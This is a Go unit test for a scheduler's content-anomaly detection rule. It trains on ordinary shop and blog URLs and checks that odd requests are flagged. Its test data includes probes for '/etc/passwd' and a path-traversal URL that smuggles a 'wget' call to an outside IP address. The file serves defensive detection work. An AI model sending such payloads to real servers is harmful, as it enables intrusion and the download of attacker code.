package scheduler

import (
	"fmt"
	"math/rand/v2"
	"testing"

	"nightjar/compiler"
	"nightjar/scheduler/detect"
	"nightjar/schema"
)

// TestATextLikeNoneBeforeIsAnAnomaly lets days of requests come, all of a kind,
// with one that is not, which is the only one found; then in any order, with
// faults and restarts.
func TestATextLikeNoneBeforeIsAnAnomaly(t *testing.T) {
	t.Parallel()
	similarity, days, window := int64(60), int64(2), int64(0)
	rule := schema.Rule{
		ID: "aaa-bbb-ccc", Name: "odd request", IsEnabled: true, Type: "log_detection",
		Queries: []schema.RuleQuery{{Name: "a", Query: "source:web", Aggregation: "none", Metrics: []string{"@http.url"}, GroupByFields: []string{"service"}}},
		Cases:   []schema.RuleCase{{Status: "medium", Condition: ""}},
		Options: schema.RuleOptions{
			DetectionMethod: "content_anomaly", EvaluationWindow: &window, KeepAlive: &window,
			ContentAnomaly: &schema.ContentOptions{Similarity: &similarity, LearningDuration: &days},
		},
	}
	compiled, _, err := compiler.Compile(rule)
	if err != nil {
		t.Fatal(err)
	}
	plan := compiled.Bind()
	r := rand.New(rand.NewPCG(1, 1))
	var events []schema.Event
	add := func(hour float64, service, url string) {
		at := schema.Millis(1_700_000_000_000 + hour*3_600_000)
		events = append(events, schema.Event{
			Seq: uint64(len(events) + 1), At: at, Seen: at, Source: "web", Service: service,
			Attributes: must(schema.ParseAttributes(fmt.Sprintf(`{"http":{"url":%q}}`, url))),
		})
	}
	for h := range 100 {
		for _, service := range []string{"shop", "blog"} {
			add(float64(h)+r.Float64(), service, fmt.Sprintf("/%s/catalogue/items/list?sort=price&order=asc&page=%d", service, r.IntN(4)))
		}
	}
	add(10.5, "shop", "/etc/passwd") // while the shop is still learned
	add(80.5, "shop", "/cgi-bin/../../bin/sh?cmd=wget http://198.51.100.7/x")
	add(80.7, "blog", "/etc/passwd")
	add(90.5, "blog", "/etc/passwd") // once before is enough
	add(95.5, "blog", "?!")          // no words
	var matches []compiler.Match
	for i := range events {
		matches = append(matches, plan.Matches(&events[i])...)
	}
	var got []string
	for _, s := range detect.Replay(plan, matches, newest(events)) {
		got = append(got, fmt.Sprint(s.Group[0], " ", int64(s.FirstSeen-1_700_000_000_000)/360_000))
	}
	if fmt.Sprint(got) != "[shop 805 blog 807]" {
		t.Errorf("found at (tenths of hours): %v", got)
	}
	for seed := range uint64(4) {
		late := shuffled(events, seed)
		mustAgree(t, live(t, seed, rule, late, 0.1*float64(seed%2)), plan, late)
	}
}
